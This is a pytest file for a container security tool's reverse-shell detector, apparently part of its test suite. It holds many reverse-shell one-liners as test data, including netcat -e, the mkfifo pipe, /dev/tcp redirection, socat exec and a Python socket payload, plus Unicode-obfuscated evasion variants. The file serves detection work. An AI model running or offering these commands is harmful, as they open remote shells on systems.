"""The reverse-shell detector: corpus, structure, parents, state, config, hostile input."""

from __future__ import annotations

import shlex
import time
import unicodedata
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coi_watch.detectors._cmdline import IGNORABLE_RANGES, normalize, parse_script
from coi_watch.detectors.reverse_shell import ReverseShell
from coi_watch.errors import ConfigError
from coi_watch.events import Ancestor, Fd, ProcComm, ProcExec, ProcExit, ProcFork
from coi_watch.protocols import Detector
from coi_watch.verdicts import Severity, Verdict

CORPUS = Path(__file__).parent / "corpus"
CONTAINER = "coi-test-1"
_pid = iter(range(10_000, 10_000_000))


def _lines(name: str) -> list[str]:
    text = (CORPUS / name).read_text(encoding="utf-8")
    return [ln for ln in text.splitlines() if ln.strip() and not ln.startswith("#")]


ATTACKS = [tuple(ln.split("\t", 2)) for ln in _lines("attack.txt")]
BENIGN = _lines("benign.txt")


def exec_event(
    argv: Sequence[str],
    *,
    exe: str | None = None,
    comm: str | None = None,
    pid: int | None = None,
    stdio: Sequence[Fd] = (),
    ancestry: Sequence[Ancestor] = (),
    ts_ns: int = 1_000,
) -> ProcExec:
    """An exec as the proc source reports it (exe and comm derived from argv[0])."""
    base = argv[0].rpartition("/")[2] if argv else ""
    return ProcExec(
        ts_ns=ts_ns,
        wall_ns=ts_ns,
        container=CONTAINER,
        pid=next(_pid) if pid is None else pid,
        ppid=1,
        uid=1000,
        comm=(base if comm is None else comm)[:15],
        exe=(f"/usr/bin/{base}" if exe is None else exe),
        argv=tuple(argv),
        stdio=tuple(stdio),
        ancestry=tuple(ancestry),
    )


def judge(det: ReverseShell, ev: Any) -> list[Verdict]:
    return list(det.feed(ev, ev.ts_ns))


def tcp(fd: int, remote: str = "10.0.0.1:4444", state: str = "ESTABLISHED") -> Fd:
    return Fd(fd=fd, type="socket", proto="tcp", state=state, local="10.1.2.3:45678",
              remote=remote)


PIPES = (Fd(fd=0, type="pipe", target="pipe:[1]"), Fd(fd=1, type="pipe", target="pipe:[2]"))


# ----------------------------------------------------------------------------- contract


def test_is_a_detector() -> None:
    det = ReverseShell()
    assert isinstance(det, Detector)
    assert det.name == "reverse_shell"
    assert det.consumes == {"proc.exec", "proc.comm", "proc.fork", "proc.exit"}
    assert ReverseShell(None).name == "reverse_shell"


# ----------------------------------------------------------------------------- corpus


@pytest.mark.parametrize(("family", "bb", "line"), ATTACKS, ids=[a[2][:60] for a in ATTACKS])
def test_attack_corpus_one_critical_verdict(family: str, bb: str, line: str) -> None:
    verdicts = judge(ReverseShell(), exec_event(shlex.split(line)))
    assert len(verdicts) == 1, line
    v = verdicts[0]
    assert v.evidence["family"] == family
    assert v.severity is Severity.CRITICAL
    assert v.detector == "reverse_shell" and v.container == CONTAINER
    assert v.event_kind == "proc.exec" and v.pid == v.evidence["pid"]
    assert "T1095" in v.mitre and any(t.startswith("T1059") for t in v.mitre)
    orjson.dumps(v)  # evidence is JSON-native


BUSYBOX = [a for a in ATTACKS if a[1] == "bb"]


@pytest.mark.parametrize(("family", "bb", "line"), BUSYBOX, ids=[a[2][:60] for a in BUSYBOX])
def test_attack_corpus_as_busybox(family: str, bb: str, line: str) -> None:
    argv = shlex.split(line)
    # busybox re-execs /proc/self/exe: exe is busybox, comm "exe", argv[0] the applet.
    reexec = exec_event(argv, exe="/bin/busybox", comm="exe")
    prefixed = exec_event(["busybox", *argv], exe="/bin/busybox", comm="busybox")
    for ev in (reexec, prefixed):
        verdicts = judge(ReverseShell(), ev)
        assert [v.evidence["family"] for v in verdicts] == [family]


def test_every_family_is_in_the_corpus() -> None:
    families = {a[0] for a in ATTACKS}
    assert families >= {
        "nc-exec", "mkfifo-nc", "nc-pipe", "telnet-pipe", "mkfifo-openssl", "openssl-pipe",
        "dev-tcp", "dev-udp", "socat-exec", "python-socket", "python-pty", "perl-socket",
        "ruby-socket", "php-socket", "lua-socket", "node-net", "gawk-inet", "zsh-ztcp",
    }


@pytest.mark.parametrize("line", BENIGN)
def test_benign_corpus_is_quiet(line: str) -> None:
    assert judge(ReverseShell(), exec_event(shlex.split(line))) == []


@pytest.mark.parametrize(
    ("script", "family"),
    [
        # A here-document into an interpreter or a shell is code ...
        ("python3 - <<'EOF'\nimport socket,subprocess\ns=socket.socket()\n"
         "s.connect(('10.0.0.1',4444))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno())\n"
         "EOF", "python-socket"),
        ("cat <<EOF | sh\nnc -e /bin/sh 10.0.0.1 4444\nEOF", "nc-exec"),
        ("bash <<< 'nc -e /bin/sh 10.0.0.1 4444'", "nc-exec"),
        ("python3 <<< 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
         "python-socket"),
        # ... and a body is skipped whole, even with an unbalanced quote in it.
        ("cat > x <<'EOF'\ndon't\nEOF\nnc -e /bin/sh 10.0.0.1 4444\n", "nc-exec"),
        ("cat > x <<-EOF\n\tit's\n\tEOF\nnc -e /bin/sh 10.0.0.1 4444\n", "nc-exec"),
        ("nc \\\n -e /bin/sh 10.0.0.1 4444", "nc-exec"),
        ("{ nc -e /bin/sh 10.0.0.1 4444; }", "nc-exec"),
        ("if true; then nc -e /bin/sh 10.0.0.1 4444; fi", "nc-exec"),
    ],
)
def test_multiline_scripts(script: str, family: str) -> None:
    verdicts = judge(ReverseShell(), exec_event(["sh", "-c", script]))
    assert [v.evidence["family"] for v in verdicts] == [family]


@pytest.mark.parametrize(
    "script",
    [
        "cat > notes.md <<'EOF'\nnc -e /bin/sh 10.0.0.1 4444\n"
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nEOF\necho done",
        "cat > t.py <<EOF\nimport socket,pty\npty.spawn('/bin/sh')\nEOF",
        "echo '$(nc -e /bin/sh 10.0.0.1 4444)' >> notes.md",
        "grep -c 'socat tcp:1.2.3.4:1 exec:sh' README",
    ],
)
def test_quoted_and_heredoc_data_is_quiet(script: str) -> None:
    assert judge(ReverseShell(), exec_event(["sh", "-c", script])) == []


@pytest.mark.parametrize(
    "script",
    ["cat < /dev/tcp/time.nist.gov/13", "timeout 1 bash -c '</dev/tcp/db/5432'",
     "echo data > /dev/tcp/10.0.0.1/9000"],
)
def test_one_way_dev_tcp_is_a_warning(script: str) -> None:
    [v] = judge(ReverseShell(), exec_event(["bash", "-c", script]))
    assert v.evidence["family"] == "dev-tcp-io"
    assert v.severity is Severity.WARNING
    assert judge(ReverseShell({"dev_tcp_io": "off"}), exec_event(["bash", "-c", script])) == []


# ----------------------------------------------------------------------------- structural


@pytest.mark.parametrize(
    ("argv", "exe", "comm", "program"),
    [
        (["sh", "-i"], "/usr/bin/dash", "sh", "dash"),
        (["bash"], "/usr/bin/bash", "bash", "bash"),
        (["-bash"], "/bin/bash", "bash", "bash"),
        (["sh"], "/bin/busybox", "exe", "sh"),
        (["busybox", "ash"], "/bin/busybox", "busybox", "ash"),
        (["python3", "-c", "x"], "/usr/bin/python3.11", "python3", "python"),
        (["nginx"], "/usr/bin/perl", "perl", "perl"),  # argv[0] lies; exe does not
    ],
)
def test_structural_shell_on_socket(argv: list[str], exe: str, comm: str, program: str) -> None:
    for stdio in ((tcp(0), tcp(1), tcp(2)), (Fd(fd=0, type="pipe"), tcp(1))):
        [v] = judge(ReverseShell(), exec_event(argv, exe=exe, comm=comm, stdio=stdio))
        assert v.severity is Severity.CRITICAL
        assert v.evidence["signal"] == "structural"
        assert v.evidence["family"] == "stdio-socket"
        assert v.evidence["program"] == program
        assert v.evidence["socket"]["remote"] == "10.0.0.1:4444"
        assert v.evidence["socket"]["proto"] == "tcp"


def test_structural_udp_and_loopback() -> None:
    udp = Fd(fd=0, type="socket", proto="udp", state="ESTABLISHED", local="10.1.2.3:5000",
             remote="10.0.0.1:53")
    assert len(judge(ReverseShell(), exec_event(["sh"], stdio=(udp,)))) == 1
    # Loopback gates only the command-line layer: a real shell on a socket is a shell.
    assert len(judge(ReverseShell(), exec_event(["sh"], stdio=(tcp(0, "127.0.0.1:4444"),)))) == 1


@pytest.mark.parametrize(
    "stdio",
    [
        (Fd(fd=0, type="socket", proto="unix", state="CONNECTED"),
         Fd(fd=1, type="socket", proto="unix", state="CONNECTED")),
        PIPES,
        (Fd(fd=0, type="tty", target="/dev/pts/0"), Fd(fd=1, type="tty", target="/dev/pts/0")),
        (tcp(2),),  # stderr alone
        (tcp(0, "0.0.0.0:0", state="LISTEN"),),
        (Fd(fd=0, type="socket", proto="udp", state="CLOSE", remote="0.0.0.0:0"),),
        (Fd(fd=0, type="gone"),),
    ],
)
def test_structural_quiet_without_an_inet_peer_on_stdin_or_stdout(stdio: tuple[Fd, ...]) -> None:
    assert judge(ReverseShell(), exec_event(["sh", "-i"], stdio=stdio)) == []


def test_structural_ignores_programs_that_are_not_shells() -> None:
    assert judge(ReverseShell(), exec_event(["nginx", "-g", "daemon off;"],
                                            stdio=(tcp(0), tcp(1)))) == []


def test_allow_programs_exempts_a_socket_activated_script() -> None:
    ev = exec_event(["/bin/sh", "/usr/local/bin/echo-service.sh"], exe="/usr/bin/dash",
                    comm="echo-service.sh", stdio=(tcp(0), tcp(1)))
    assert len(judge(ReverseShell(), ev)) == 1
    det = ReverseShell({"allow_programs": ["/usr/local/bin/echo-service.sh"]})
    assert judge(det, ev) == []


def test_partial_exec_is_harmless() -> None:
    ev = ProcExec(ts_ns=1, wall_ns=1, container=CONTAINER, pid=5, partial=True)
    assert judge(ReverseShell(), ev) == []


# ----------------------------------------------------------------------------- parent


@pytest.mark.parametrize(
    ("parent", "family"),
    [
        (Ancestor(pid=50, comm="ncat", exe="/usr/bin/ncat",
                  cmdline="ncat --ssl -e /bin/sh 10.0.0.1 4444"), "nc-exec"),
        (Ancestor(pid=51, comm="nc", exe="/bin/busybox", cmdline="nc -lp 4444 -e sh"),
         "nc-exec"),
        (Ancestor(pid=52, comm="socat", exe="/usr/bin/socat",
                  cmdline="socat tcp:10.0.0.1:4444 exec:bash -li,pty,stderr"), "socat-exec"),
        (Ancestor(pid=53, comm="python3", exe="/usr/bin/python3.11",
                  cmdline='python3 -c import socket,subprocess;s=socket.socket();'
                          's.connect(("10.0.0.1",4444));'
                          'subprocess.call(["/bin/sh","-i"],stdin=s.fileno())'),
         "python-socket"),
        (Ancestor(pid=54, comm="sh", exe="/bin/dash",
                  cmdline="sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 "
                          "> /tmp/f"), "mkfifo-nc"),
    ],
)
def test_parent_signal(parent: Ancestor, family: str) -> None:
    child = exec_event(["/bin/sh", "-i"], stdio=PIPES, ancestry=(parent,))
    [v] = judge(ReverseShell(), child)
    assert (v.evidence["signal"], v.evidence["family"]) == ("parent", family)
    assert v.severity is Severity.CRITICAL


def test_parent_signal_needs_a_shell_child_and_a_suspicious_parent() -> None:
    nc = Ancestor(pid=60, comm="ncat", exe="/usr/bin/ncat", cmdline="ncat -e /bin/cat h 1")
    bash = Ancestor(pid=61, comm="bash", exe="/bin/bash", cmdline="bash")
    det = ReverseShell()
    assert judge(det, exec_event(["ls", "-l"], stdio=PIPES, ancestry=(nc,))) == []
    assert judge(det, exec_event(["sh", "-i"], stdio=PIPES, ancestry=(bash,))) == []


def test_parent_already_reported_is_not_reported_again() -> None:
    det = ReverseShell()
    parent = exec_event(["ncat", "--ssl", "-e", "/bin/sh", "10.0.0.1", "4444"], pid=70)
    [pv] = judge(det, parent)
    anc = Ancestor(pid=70, comm="ncat", exe="/usr/bin/ncat", cmdline=parent.cmdline)
    assert judge(det, exec_event(["sh"], stdio=PIPES, ancestry=(anc,))) == []
    # ... nor through a forked child of it (ncat forks per connection).
    judge(det, ProcFork(ts_ns=2, wall_ns=2, container=CONTAINER, pid=71, ppid=70))
    anc71 = Ancestor(pid=71, comm="ncat", exe="/usr/bin/ncat", cmdline=parent.cmdline)
    assert judge(det, exec_event(["sh"], stdio=PIPES, ancestry=(anc71,))) == []
    # A fresh detector (the parent's exec missed) reports it, under the same dedup key.
    [cv] = judge(ReverseShell(), exec_event(["sh"], stdio=PIPES, ancestry=(anc,)))
    assert cv.dedup_key == pv.dedup_key


# ----------------------------------------------------------------------------- state


def test_busybox_reexec_then_comm_is_one_verdict() -> None:
    det = ReverseShell()
    argv = ("nc", "10.0.0.1", "4444", "-e", "/bin/sh")
    assert len(judge(det, exec_event(argv, exe="/bin/busybox", comm="exe", pid=80))) == 1
    comm = ProcComm(ts_ns=2, wall_ns=2, container=CONTAINER, pid=80, comm="nc", argv=argv)
    assert judge(det, comm) == []


def test_noexec_applet_inherits_its_parents_argv() -> None:
    det = ReverseShell()
    script = ("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/f")
    assert len(judge(det, exec_event(script, pid=90))) == 1
    judge(det, ProcFork(ts_ns=2, wall_ns=2, container=CONTAINER, pid=91, ppid=90))
    # busybox runs `mkfifo` in the forked child without exec: a comm event, same argv.
    comm = ProcComm(ts_ns=3, wall_ns=3, container=CONTAINER, pid=91, comm="mkfifo", argv=script)
    assert judge(det, comm) == []


def test_comm_with_an_unjudged_argv_is_judged() -> None:
    det = ReverseShell()
    argv = ("nc", "-e", "/bin/sh", "10.0.0.1", "4444")
    comm = ProcComm(ts_ns=2, wall_ns=2, container=CONTAINER, pid=95, comm="nc", argv=argv)
    [v] = judge(det, comm)
    assert v.event_kind == "proc.comm" and v.evidence["family"] == "nc-exec"
    assert judge(det, comm) == []  # judged now
    judge(det, ProcExit(ts_ns=3, wall_ns=3, container=CONTAINER, pid=95))
    assert len(judge(det, comm)) == 1  # state evicted at exit: a reused pid starts afresh


def test_tracked_pids_are_bounded() -> None:
    det = ReverseShell({"max_tracked": 8})
    for pid in range(1000, 1200):
        judge(det, exec_event(["true"], pid=pid))
        judge(det, ProcFork(ts_ns=2, wall_ns=2, container=CONTAINER, pid=pid + 5000, ppid=pid))
    assert len(det._procs) <= 8


def test_dedup_key_stable_across_a_burst() -> None:
    det = ReverseShell()
    keys = {
        judge(det, exec_event(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], ts_ns=t))[0].dedup_key
        for t in range(1, 20)
    }
    assert keys == {f"reverse_shell:{CONTAINER}:nc-exec:nc:10.0.0.1"}
    other = judge(det, exec_event(["nc", "-e", "/bin/sh", "10.9.9.9", "4444"]))[0]
    assert other.dedup_key not in keys
    # A bind shell: the peer's port changes with every connection, the key does not.
    structural = {
        judge(det, exec_event(["sh"], stdio=(tcp(0, f"10.0.0.1:{port}"),)))[0].dedup_key
        for port in (40001, 40002, 51234)
    }
    assert structural == {f"reverse_shell:{CONTAINER}:stdio-socket:sh:10.0.0.1"}


# ----------------------------------------------------------------------------- verdicts


@pytest.mark.parametrize(
    ("argv", "mitre"),
    [
        (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], ("T1059.004", "T1095")),
        (["python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"],
         ("T1059.006", "T1095")),
        (["node", "-e", "require('net');require('child_process')"], ("T1059.007", "T1095")),
        (["lua", "-e", "require('socket');os.execute('sh')"], ("T1059.011", "T1095")),
        (["perl", "-e", "use Socket;exec('/bin/sh')"], ("T1059", "T1095")),
        (["socat", "openssl:10.0.0.1:443", "exec:sh"], ("T1059.004", "T1095", "T1573.002")),
    ],
)
def test_mitre_tags(argv: list[str], mitre: tuple[str, ...]) -> None:
    [v] = judge(ReverseShell(), exec_event(argv))
    assert v.mitre == mitre


def test_structural_mitre_follows_the_program() -> None:
    [py] = judge(ReverseShell(), exec_event(["python3"], stdio=(tcp(0),)))
    [tcl] = judge(ReverseShell(), exec_event(["tclsh"], stdio=(tcp(0),)))
    assert (py.mitre, tcl.mitre) == (("T1059.006", "T1095"), ("T1059", "T1095"))


def test_hostile_names_are_clipped_in_the_key() -> None:
    [v] = judge(ReverseShell(), exec_event(["nc", "-e", "/bin/sh", "h" * 100_000, "1"]))
    assert len(v.dedup_key) < 400 and len(v.title) < 200


def test_verdict_fields_and_clipped_evidence() -> None:
    pad = "x" * 100_000
    ev = exec_event(["sh", "-c", f"echo {pad}; nc -e /bin/sh 10.0.0.1 4444", *["a"] * 100],
                    ts_ns=123)
    [v] = judge(ReverseShell(), ev)
    assert (v.ts_ns, v.wall_ns, v.pid, v.action, v.mode) == (123, 123, ev.pid, "", "enforce")
    assert v.evidence["remote_host"] == "10.0.0.1"
    assert len(v.evidence["argv"]) == 32 and v.evidence["argv_more"] == 71
    assert all(len(a) < 600 for a in v.evidence["argv"])
    assert len(v.to_json()) < 64 * 1024


# ----------------------------------------------------------------------------- config


def test_one_liners_level() -> None:
    argv = ["python3", "-c", "import socket,subprocess;s=socket.socket();subprocess.call('sh')"]
    for level, severity in (("critical", Severity.CRITICAL), ("warning", Severity.WARNING),
                            ("warn", Severity.WARNING), ("high", Severity.HIGH)):
        [v] = judge(ReverseShell({"one_liners": level}), exec_event(argv))
        assert v.severity is severity
    assert judge(ReverseShell({"one_liners": "off"}), exec_event(argv)) == []
    # Strong families are not one-liners: still critical.
    [v] = judge(ReverseShell({"one_liners": "off"}), exec_event(["nc", "-e", "sh", "h", "1"]))
    assert v.severity is Severity.CRITICAL


def test_extra_shells_and_interpreters() -> None:
    ev = exec_event(["myshell"], exe="/opt/bin/myshell", stdio=(tcp(0),))
    assert judge(ReverseShell(), ev) == []
    assert len(judge(ReverseShell({"shells": ["myshell"]}), ev)) == 1
    ev = exec_event(["racket"], stdio=(tcp(0),))
    assert len(judge(ReverseShell({"interpreters": ["racket"], "mode": "monitor"}), ev)) == 1


@pytest.mark.parametrize(
    "config",
    [{"one_liners": "loud"}, {"one_liners": 1}, {"allow_programs": "sh"},
     {"allow_programs": [""]}, {"shells": [3]}, {"max_tracked": 0}, {"max_tracked": True},
     {"one_liner": "off"}],
)
def test_bad_config(config: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        ReverseShell(config)


# ----------------------------------------------------------------------------- hostile input


@pytest.mark.parametrize(
    "argv",
    [
        ["\uff4e\uff43", "-e", "/bin/sh", "10.0.0.1", "4444"],  # fullwidth nc
        ["n\u200bc", "-e", "/bin/sh", "10.0.0.1", "4444"],  # zero-width space inside
        ["sh", "-c", "n\u200dc\u2060 -\u00ade /bin/sh 10.0.0.1 4444"],  # joiners, soft hyphen
        ["python3", "-c", "import \uff53\uff4f\uff43\uff4b\uff45\uff54,os;"
                          "s=\uff53\uff4f\uff43\uff4b\uff45\uff54.socket();os.dup2(s.fileno(),0)"],
    ],
)
def test_unicode_tricks_are_normalised(argv: list[str]) -> None:
    assert len(judge(ReverseShell(), exec_event(argv))) == 1


def test_ignorable_table_covers_every_format_character() -> None:
    table = {cp for lo, hi in IGNORABLE_RANGES for cp in range(lo, hi + 1)}
    missing = [hex(cp) for cp in range(0x110000)
               if unicodedata.category(chr(cp)) == "Cf" and cp not in table]
    assert missing == []
    assert normalize("a\u200bb\ufeffc") == "abc"
    assert normalize("plain") == "plain"


def test_binary_and_escaped_bytes_do_not_break_anything() -> None:
    junk = ["\\xff\\xfe\x00", "\udcff", "\x00" * 10, "\\", "'", '"', "$(", "`", "<<", "\n" * 5]
    det = ReverseShell()
    assert judge(det, exec_event(junk)) == []
    assert judge(det, exec_event(["sh", "-c", "".join(junk)])) == []
    assert judge(det, exec_event(["sh", "-c", "".join(junk) + "\nnc -e sh 10.0.0.1 1"])) != []


_MIB = 1 << 20
_PAYLOAD = "; nc -e /bin/sh 10.0.0.1 4444"
_PADDING = [
    "a;", "nc;", "a ", "nc a ", "nc;sh;", "'a'", "x|", "2>&1 ", "nc -c x ", '"$(a)" ',
    "`a`", ">/dev/tcp/127.0.0.1/1 ", "$'\\x41' ", "\\\\", "\u200b", "\uff4e\uff43 ",
    "bash -c 'nc' ", "eval eval ", "a=1 ", "a<<a\na\n", "cat <<'E'\nx'\nE\n",
    "sh <<a\nx\na\n", "python -c 'socket' ",
]


@pytest.mark.parametrize("unit", _PADDING)
def test_one_mib_adversarial_argv_is_fast_and_the_payload_still_found(unit: str) -> None:
    script = unit * ((_MIB - len(_PAYLOAD)) // len(unit)) + _PAYLOAD
    ev = exec_event(["sh", "-c", script])
    det = ReverseShell()
    start = time.process_time()
    verdicts = judge(det, ev)
    elapsed = time.process_time() - start
    assert [v.evidence["family"] for v in verdicts] == ["nc-exec"]
    assert elapsed < 0.5, f"{elapsed:.3f}s for {unit!r}"


def test_payload_behind_padding_in_other_arguments() -> None:
    argv = ["nc", *(["-v"] * (_MIB // 3)), "-e", "/bin/sh", "10.0.0.1", "4444"]
    start = time.process_time()
    [v] = judge(ReverseShell(), exec_event(argv))
    assert time.process_time() - start < 0.5
    assert v.evidence["family"] == "nc-exec"


def test_work_grows_linearly() -> None:
    det = ReverseShell()

    def cost(size: int) -> float:
        script = "nc a1;sh 'b';x|" * (size // 15) + _PAYLOAD
        ev = exec_event(["sh", "-c", script])
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            judge(det, ev)
            best = min(best, time.process_time() - start)
        return best

    small, large = cost(_MIB // 8), cost(_MIB)
    assert large < 20 * max(small, 1e-3)  # 8x the input: far from 64x


_PIECES = [*"ab nc-e/sh;|&<>()`$'\"\\\n\t{}=#0123*", "\u200b", "\uff4e", "\u00e9", "\x00",
           "<<", "<<-", "<<<", "/dev/tcp/1.2.3.4/5", "python -c ", "socket", "exec", "EOF",
           "$(", "${IFS}", "mkfifo ", "| sh", "2>&1"]
_SHELLISH = st.lists(st.sampled_from(_PIECES), max_size=80).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.lists(_SHELLISH, max_size=6))
def test_random_argv_never_raises(argv: list[str]) -> None:
    det = ReverseShell()
    for ev in (exec_event(argv), exec_event(["sh", "-c", "".join(argv)]),
               exec_event(["sh", "-c", "\n".join(argv)], stdio=(tcp(0),))):
        assert len(judge(det, ev)) <= 1


@settings(max_examples=200, deadline=None)
@given(_SHELLISH)
def test_parse_script_never_raises(script: str) -> None:
    parse_script(script, lambda word: True)
